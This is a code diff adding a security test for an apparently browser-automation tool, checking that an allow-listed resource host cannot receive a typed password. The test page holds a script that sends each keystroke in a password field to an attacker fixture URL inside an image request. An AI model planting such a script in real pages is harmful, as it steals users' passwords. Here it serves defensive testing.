@@ -402,6 +402,19 @@ def test_allowed_resources_take_no_data(tmp_path, provider, attacker):
     assert_blocked(done, attacker, provider, "to send data to")
 
 
+def test_allowed_resources_take_no_picture_named_after_a_typed_password(tmp_path, provider, attacker):
+    """A resource host takes pictures; one whose address carries the password is data."""
+    provider.pages["/start"] = page_with(
+        "<script>document.getElementById('pw').addEventListener('input', (e) => {"
+        f" new Image().src = '{attacker.url}/p.png?v=' + encodeURIComponent(e.target.value); }});</script>"
+    )
+    done = run_flow(
+        tmp_path, provider, START + FILL_AND_SEND, extra=f'allowed_resources: ["127.0.0.2:{attacker.port}"]\n'
+    )
+    assert_blocked(done, attacker, provider, "to send data to")
+    assert "s3cret-pw" not in done.stderr
+
+
 def test_the_demo_still_confirms_with_the_guard_on(portal, tmp_path):
     out = tmp_path / "evidence"
     done = run_cli(
